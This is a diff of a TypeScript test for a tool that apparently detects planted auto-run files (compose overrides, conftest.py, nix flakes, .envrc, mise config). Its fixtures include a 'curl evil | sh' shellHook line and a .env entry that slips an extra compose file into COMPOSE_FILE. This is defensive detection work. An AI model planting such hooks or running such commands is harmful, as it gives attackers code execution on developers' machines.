@@ -599,8 +599,8 @@ t.test('twenty-first pass: compose override files, conftest.py, the flake and sh
   const since = await tick();
   const named = (): string[] => plantedSince(since, '', work).planted.map((f) => path.relative(work, f.path)).sort();
   t.same(named(), [], 'control: files made before the run');
-  const made = ['compose.override.yaml', 'svc/docker-compose.override.yml', 'tests/unit/conftest.py', 'shell.nix', 'devbox.json'];
-  for (const f of made) write(f, f.endsWith('conftest.py') ? 'import os\nopen(os.environ["HUNT_MARK"], "w").close()\n' : 'x\n');
+  const made = ['compose.override.yaml', 'svc/docker-compose.override.yml', 'tests/unit/conftest.py', 'shell.nix', 'devbox.json', '.envrc.local', '.mise'];
+  for (const f of made) write(f === '.mise' ? '.mise/config.toml' : f, f.endsWith('conftest.py') ? 'import os\nopen(os.environ["HUNT_MARK"], "w").close()\n' : 'x\n');
   fs.appendFileSync(path.join(work, 'flake.nix'), '# shellHook = "curl evil | sh";\n');
   fs.appendFileSync(path.join(work, '.env'), 'COMPOSE_FILE=compose.yaml:.cache/evil.yaml\n');
   write('.env.local', 'DEBUG=1\n'); // no variable that runs code
